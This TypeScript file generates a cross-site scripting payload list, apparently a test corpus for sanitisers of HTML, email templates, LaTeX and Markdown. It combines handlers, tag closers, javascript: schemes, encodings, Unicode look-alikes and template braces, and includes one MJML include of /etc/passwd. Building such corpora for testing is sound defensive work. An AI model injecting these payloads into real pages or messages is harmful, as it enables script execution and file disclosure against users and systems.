/**
 * Texts that a careless page or mail would make markup, a script or a template of: made by combining what does it
 * (elements, handlers, ends of what surrounds, schemes, encodings, braces), so that a family is whole. Each opens a
 * dialog where it works.
 */
export function markupAttacks(): string[] {
  const call = 'alert(1)'
  const payloads = [
    `<script>${call}</script>`,
    `<img src=x onerror=${call}>`,
    `<svg onload="${call}">`,
    `<details open ontoggle='${call}'>`
  ]
  const cross = (ones: string[], make: (one: string, payload: string) => string) =>
    ones.flatMap((one) => payloads.map((payload) => make(one, payload)))

  const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onbegin']
  const elements = handlers.flatMap((handler) =>
    ['img src=x', 'svg', 'input autofocus', 'video src=x', 'iframe', 'body', 'a href=# tabindex=0', 'math'].map(
      (element) => `<${element} ${handler}=${call}>`
    )
  )

  const ends = [
    '</td></tr></table>',
    '</title>',
    '</style>',
    '</a></h2>',
    '--></style>',
    '<!-->',
    '-->',
    '<![endif]-->'
  ]
  const moreEnds = [
    ']]>',
    '</textarea>',
    '</mj-text>',
    '</mj-raw></mj-section>',
    '"',
    "'",
    '">',
    "'>",
    '`>',
    '/>',
    '\n\n'
  ]
  const breakers = cross([...ends, ...moreEnds], (end, payload) => end + payload)

  const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'vbscript:']
  const entitySchemes = ['&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', 'data:text/html,<script>']
  const links = [...schemes, ...entitySchemes].flatMap((scheme) => [
    `<a href="${scheme}${call}">x</a>`,
    `<iframe src='${scheme}${call}'></iframe>`,
    `<form action=${scheme}${call}><button>x`,
    `[x](${scheme}${call})`,
    `\\href{${scheme}${call}}{x}`,
    `\\url{${scheme}${call}}`
  ])

  const each = (text: string, write: (code: number) => string) =>
    Array.from(text, (letter) => write(letter.codePointAt(0) ?? 0)).join('')
  const encodings = payloads.flatMap((payload) => [
    payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    payload.replaceAll('<', '&amp;lt;'),
    payload.replaceAll('<', '&lt').replaceAll('>', '&gt'),
    each(payload, (code) => `&#${code};`),
    each(payload, (code) => `&#x${code.toString(16)};`),
    each(payload, (code) => `&#${String(code).padStart(7, '0')}`),
    encodeURIComponent(payload),
    each(payload, (code) => `\\u${code.toString(16).padStart(4, '0')}`)
  ])

  // What looks like an angle bracket, what a reader drops from inside a name, and what turns the text around.
  const tricks = payloads.flatMap((payload) => [
    payload.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
    payload.replaceAll('<', '\u2039').replaceAll('>', '\u203A'),
    payload.replaceAll('<', '<\u0338'),
    ...['\u200B', '\u00AD', '\uFEFF', '\u2028', '\u202E', '\u000C', '\u0001'].map((odd) =>
      payload.replace('<', `<${odd}`)
    ),
    payload.replace(/[a-z]+/, (name) => name.toUpperCase()),
    payload.replace(/([a-z])([a-z]+)/, '$1\u200D$2')
  ])

  const braces = [
    '{{ X }}',
    '{{{ X }}}',
    '{% raw %}X{% endraw %}',
    '{% assign x = X %}',
    '${X}',
    '<%= X %>',
    '#{X}',
    '[[X]]'
  ]
  const templates = cross([...braces, '{{ "X" | raw }}', '{{ subject }}X{{'], (brace, payload) =>
    brace.replace('X', payload)
  )

  const nested = cross(
    [
      '<scr<script>ipt>X',
      '<<X',
      '<svg><style><img title="</style>X">',
      '<noscript><p title="</noscript>X">',
      '<math><mtext><table><mglyph><style><!--</style>X',
      '<template>X</template>',
      '<mj-raw>X</mj-raw>',
      '<mj-include path="/etc/passwd" />X',
      '<mj-style inline="inline">X</mj-style>',
      '$<X>$',
      '\\textbf{X',
      '\\emph{\\texttt{X}}',
      '`X`',
      '**X**'
    ],
    (nest, payload) => nest.replace('X', payload)
  )
  return [...elements, ...breakers, ...links, ...encodings, ...tricks, ...templates, ...nested]
}
